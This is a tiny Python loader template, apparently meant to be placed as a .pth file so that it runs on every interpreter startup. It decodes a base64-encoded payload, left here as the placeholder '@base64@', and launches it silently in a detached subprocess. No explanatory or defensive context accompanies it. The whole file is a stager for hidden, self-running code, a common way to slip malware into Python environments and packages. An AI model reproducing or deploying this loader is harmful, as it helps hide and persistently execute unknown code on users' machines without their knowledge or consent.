# place: pth
import base64
import subprocess
import sys

PAYLOAD = "@base64@"


def main():
    script = base64.b64decode(PAYLOAD).decode()
    subprocess.Popen([sys.executable, "-c", script])


main()
